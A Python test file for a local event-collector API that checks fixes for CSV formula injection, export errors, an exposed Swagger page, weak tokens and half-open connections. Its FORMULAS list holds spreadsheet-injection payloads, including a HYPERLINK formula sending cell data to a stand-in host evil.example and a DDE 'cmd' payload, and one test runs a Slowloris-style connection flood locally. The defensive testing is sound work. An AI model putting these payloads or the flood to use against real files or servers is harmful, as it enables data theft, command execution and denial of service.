"""Smaller holes of issue #14: formula cells, export paths, the stock Swagger page,
weak tokens, half-open connections. Real files, a real database, a real waitress server."""

import csv
import io
import json
import socket
import time

import pytest
import requests
from click.testing import CliRunner

from api_server import running
from collector import config as config_mod
from collector.api.security import MIN_TOKEN_CHARS, TokenRequired
from collector.api.server import LIMITS, Server
from collector.cli import cli
from collector.export import tabular
from collector.ingest.drain import drain_once
from collector.storage import db
from replay import run_hook

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1"]


def test_csv_export_neutralises_formula_cells(home):
    for number, prompt in enumerate(FORMULAS + ["plain text", "a = b"]):
        run_hook({"session_id": "csv-%d" % number, "cwd": "/tmp/p", "hook_event_name": "UserPromptSubmit",
                  "prompt": prompt}, home, at="2026-03-02T09:00:0%dZ" % number)
    config = config_mod.load()
    conn = db.connect(config.db_path)
    assert drain_once(conn, config)["events"] == 7
    out = io.StringIO()
    tabular.export(conn, out, fmt="csv", what="messages")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    cells = sorted(r["content"] for r in rows)
    assert cells == sorted(["'" + f for f in FORMULAS] + ["plain text", "a = b"])
    # JSON keeps the text as it was: only a spreadsheet runs formulas.
    out = io.StringIO()
    tabular.export(conn, out, fmt="json", what="messages")
    assert sorted(m["content"] for m in json.loads(out.getvalue())) == sorted(FORMULAS + ["plain text", "a = b"])


def test_export_into_a_missing_directory_is_one_line(home, tmp_path):
    target = tmp_path / "no" / "such" / "dir" / "out.csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 1
    assert result.output.strip().count("\n") == 0 and "Traceback" not in result.output
    assert "cannot write %s" % target in result.output and "No such file or directory" in result.output


def test_the_stock_swagger_page_is_not_served(api_server):
    assert api_server.get("/docs/static/index.html").status_code == 404
    assert api_server.get("/docs/static/swagger-initializer.js").status_code == 404
    r = api_server.get("/docs/static/swagger-ui.css")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/css")
    assert api_server.get("/docs/static/swagger-ui-bundle.js").status_code == 200
    assert b"/docs/static/swagger-ui-bundle.js" in api_server.get("/docs").content


def test_a_weak_token_is_refused_and_cctracker_token_makes_a_strong_one(home):
    config = config_mod.load()
    with pytest.raises(TokenRequired, match="at least %d" % MIN_TOKEN_CHARS):
        Server(config, host="127.0.0.1", port=0, token="x")
    made = [CliRunner().invoke(cli, ["token"]).output.strip() for _ in range(2)]
    assert made[0] != made[1] and all(len(t) >= MIN_TOKEN_CHARS for t in made)
    with running(home, token=made[0]) as api:
        assert requests.get(api.url + "/api/projects", timeout=30).status_code == 401
        assert api.get("/api/projects").status_code == 200


@pytest.mark.slow
def test_half_open_connections_do_not_lock_out_the_api(home):
    """Slowloris: more half-sent requests than waitress takes at once. Idle ones are
    closed after its channel timeout, so a real request is answered (late, not never)."""
    with running(home) as api:
        hogs = []
        try:
            for _ in range(LIMITS["connection_limit"] + 100):
                s = socket.create_connection(("127.0.0.1", api.port), timeout=10)
                s.sendall(b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never finished
                hogs.append(s)
            r = requests.get(api.url + "/api/health", timeout=LIMITS["channel_timeout"] * 4)
            assert r.status_code == 200
        finally:
            for s in hogs:
                s.close()
